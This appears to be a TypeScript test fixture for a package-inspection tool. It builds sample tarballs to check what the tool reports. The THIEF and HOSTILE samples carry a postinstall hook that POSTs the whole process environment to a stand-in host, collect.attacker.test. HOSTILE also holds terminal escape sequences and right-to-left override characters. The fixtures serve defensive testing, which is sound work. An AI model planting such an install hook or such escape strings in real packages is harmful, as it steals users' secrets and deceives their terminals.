/** Inspections for tests of what is written from them: made by the product itself from tarballs, plain ones and hostile ones. */
import { openInspect, type Inspection, type InspectPorts } from "../../src/app/inspect.ts";
import { analyse } from "../../src/core/analysis/analyse.ts";
import { instant } from "../../src/core/base/time.ts";
import { BALANCED, NO_EXCEPTIONS } from "./packages.ts";
import { packPackage } from "./tarball.ts";

type Files = Readonly<Record<string, string>>;

export function tarballOf(files: Files): Uint8Array {
  return packPackage(Object.entries(files).map(([path, text]) => ({ path, text })));
}

/** The shape of a thief, inert: nothing runs it, and nobody answers at the host. */
export const THIEF: Files = {
  "package.json": '{"name":"quiet-helper","version":"1.0.1","scripts":{"postinstall":"node setup.js"}}',
  "setup.js":
    "const https = require('node:https');\nfetch('https://collect.attacker.test/', { method: 'POST', body: JSON.stringify(process.env) });\n",
};

/** Names and texts that mean something in a terminal, a URL or a document. */
export const HOSTILE: Files = {
  "package.json": '{"name":"x\\u001b[31m\\"<>","version":"\\u202e1","scripts":{"postinstall":"node ü%2e.js"}}',
  "ü%2e.js":
    "fetch('https://collect.attacker.test/', { method: 'POST', body: JSON.stringify(process.env) }); // \u001b]8;;x\u0007 \u202e\n",
};

/** As `cordon inspect <file>` makes it. */
export async function inspectionOf(bytes: Uint8Array, file = "new.tgz"): Promise<Inspection> {
  const ports = {
    clock: { now: () => instant(Date.UTC(2026, 2, 31)) },
    tarballs: { analyse: async (tarball: Uint8Array) => analyse(tarball) },
    policy: () => BALANCED,
    judgements: { exceptions: () => NO_EXCEPTIONS },
  } as unknown as InspectPorts; // a tarball on this machine asks no registry and no store
  return openInspect(ports)({ file, bytes });
}
